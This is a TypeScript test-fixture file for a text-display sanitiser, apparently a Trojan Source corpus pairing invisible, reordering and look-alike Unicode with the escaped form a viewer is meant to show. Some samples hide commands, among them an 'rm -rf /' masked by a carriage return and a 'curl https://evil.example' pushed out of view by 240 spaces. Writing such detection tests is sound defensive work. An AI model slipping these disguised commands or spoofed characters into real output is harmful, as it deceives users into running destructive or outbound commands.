/** A text that hides, reorders, commands or poses, and what must be seen instead. */
export interface HostileText {
  readonly name: string;
  readonly text: string;
  readonly shown: string;
}

/** The Trojan Source corpus and related cases: every view of foreign text marks them like this. */
export const hostileTexts: readonly HostileText[] = [
  { name: 'an escape sequence that clears the screen', text: 'ok\u001b[2J', shown: 'ok⟦U+001B⟧[2J' },
  {
    name: 'an escape sequence that paints',
    text: '\u001b[32mapproved\u001b[0m',
    shown: '⟦U+001B⟧[32mapproved⟦U+001B⟧[0m',
  },
  {
    name: 'an operating system command (window title, clipboard)',
    text: '\u001b]52;c;aGk=\u0007',
    shown: '⟦U+001B⟧]52;c;aGk=⟦U+0007⟧',
  },
  { name: 'a C1 control sequence introducer', text: 'a\u009b2J', shown: 'a⟦U+009B⟧2J' },
  { name: 'a NUL', text: 'a\u0000b', shown: 'a⟦U+0000⟧b' },
  {
    name: 'a carriage return that writes over the line',
    text: 'rm -rf /\rls -l   ',
    shown: 'rm -rf /⟦U+000D⟧ls -l   ',
  },
  { name: 'a backspace', text: 'abc\b\b\bxyz', shown: 'abc⟦U+0008⟧⟦U+0008⟧⟦U+0008⟧xyz' },
  { name: 'a delete', text: 'a\u007f', shown: 'a⟦U+007F⟧' },
  { name: 'a line feed in a single line', text: 'one\ntwo', shown: 'one⟦U+000A⟧two' },
  { name: 'a right-to-left override', text: 'gpj\u202eexe.tset', shown: 'gpj⟦U+202E⟧exe.tset' },
  {
    name: 'an isolate (CVE-2021-42574)',
    text: '/*\u2066 begin admins only \u2069*/',
    shown: '/*⟦U+2066⟧ begin admins only ⟦U+2069⟧*/',
  },
  { name: 'an Arabic letter mark', text: 'a\u061cb', shown: 'a⟦U+061C⟧b' },
  { name: 'a zero-width space', text: 'pay\u200bpal', shown: 'pay⟦U+200B⟧pal' },
  { name: 'a zero-width joiner', text: 'a\u200db', shown: 'a⟦U+200D⟧b' },
  { name: 'a byte order mark', text: '\ufeffa', shown: '⟦U+FEFF⟧a' },
  { name: 'a soft hyphen', text: 'pass\u00adword', shown: 'pass⟦U+00AD⟧word' },
  { name: 'a word joiner', text: 'a\u2060b', shown: 'a⟦U+2060⟧b' },
  { name: 'invisible tag characters', text: 'hi\u{e0041}\u{e0042}', shown: 'hi⟦U+E0041⟧⟦U+E0042⟧' },
  { name: 'a variation selector', text: 'a\ufe0f', shown: 'a⟦U+FE0F⟧' },
  { name: 'a Hangul filler', text: 'a\u3164b', shown: 'a⟦U+3164⟧b' },
  { name: 'an object replacement character', text: 'pay\ufffcpal', shown: 'pay⟦U+FFFC⟧pal' },
  { name: 'a no-break space', text: '/tmp\u00a0/x', shown: '/tmp⟦U+00A0⟧/x' },
  { name: 'an ideographic space', text: 'a\u3000b', shown: 'a⟦U+3000⟧b' },
  { name: 'a line separator', text: 'a\u2028b', shown: 'a⟦U+2028⟧b' },
  { name: 'a lone surrogate', text: 'a\ud800b', shown: 'a⟦U+D800⟧b' },
  { name: 'a lone surrogate and nothing else', text: '\ud800', shown: '⟦U+D800⟧' },
  { name: 'a private-use character', text: 'a\ue000b', shown: 'a⟦U+E000⟧b' },
  { name: 'a mark that is not ours', text: '⟦U+202E⟧', shown: '⟦U+27E6⟧U+202E⟧' },
  { name: 'a Cyrillic е in a Latin word', text: '/\u0435tc/hosts', shown: '/⟦U+0435⟧tc/hosts' },
  {
    name: 'a host name all in Cyrillic look-alikes',
    text: 'https://\u0430\u0440\u0440.com',
    shown: 'https://⟦U+0430⟧⟦U+0440⟧⟦U+0440⟧.com',
  },
  { name: 'a word all in Cyrillic look-alikes', text: 'сору', shown: '⟦U+0441⟧⟦U+043E⟧⟦U+0440⟧⟦U+0443⟧' },
  { name: 'a word all in Greek look-alikes', text: 'ΤΟΜ', shown: '⟦U+03A4⟧⟦U+039F⟧⟦U+039C⟧' },
  { name: 'an é of two characters', text: 'caf\u0065\u0301', shown: 'cafe⟦U+0301⟧' },
  { name: 'a Hangul syllable in its parts', text: '\u1100\u1161', shown: '\u1100⟦U+1161⟧' },
  { name: 'a Kelvin sign in the place of a K', text: '/etc/\u212a', shown: '/etc/⟦U+212A⟧' },
  { name: 'a Greek question mark in the place of a semicolon', text: 'ls\u037e rm', shown: 'ls⟦U+037E⟧ rm' },
  { name: 'a fraction slash in a path', text: 'a.example\u2044b', shown: 'a.example⟦U+2044⟧b' },
  { name: 'a division slash in a path', text: '/etc\u2215hosts', shown: '/etc⟦U+2215⟧hosts' },
  { name: 'a Greek look-alike in a Latin word', text: 'g\u03bfogle', shown: 'g⟦U+03BF⟧ogle' },
  { name: 'an Armenian look-alike in a Latin word', text: 'g\u0585ogle', shown: 'g⟦U+0585⟧ogle' },
  {
    name: 'a look-alike in a Latin word of an honest Russian text',
    text: 'файл /\u0435tc/hosts',
    shown: 'файл /⟦U+0435⟧tc/hosts',
  },
  {
    name: 'combining characters stacked over the lines above',
    text: `q${'\u0301'.repeat(5)}`,
    shown: `q${'\u0301'.repeat(3)}⟦U+0301⟧⟦U+0301⟧`,
  },
  {
    name: 'a command behind spaces',
    text: `echo cleaning${' '.repeat(240)}; curl https://evil.example`,
    shown: 'echo cleaning⟦240 spaces⟧; curl https://evil.example',
  },
  { name: 'a Braille pattern without ink', text: 'a\u2800b', shown: 'a⟦U+2800⟧b' },
  { name: 'eight spaces', text: `a${' '.repeat(8)}b`, shown: 'a⟦8 spaces⟧b' },
  { name: 'a combining character behind spaces', text: `a${' '.repeat(9)}\u0338`, shown: 'a⟦9 spaces⟧⟦U+0338⟧' },
  { name: 'a combining character without a base', text: '\u0338x', shown: '⟦U+0338⟧x' },
  { name: 'a combining character that strikes out a mark', text: 'a\u202e\u0338', shown: 'a⟦U+202E⟧⟦U+0338⟧' },
];

/** Texts of many scripts in which nothing is marked. */
export const honestTexts: readonly string[] = [
  'plain text',
  'plain 👍 text',
  'seven       spaces',
  'Größe: 3 €',
  '数字は三つ',
  'Привет, мир',
  'с утра у реки',
  'копия',
  'ΟΧΙ ΣΗΜΕΡΑ',
  '5∕3',
  'Ελληνικά',
  'Δx = 3 µs',
  'ảo',
  'q\u0303',
];
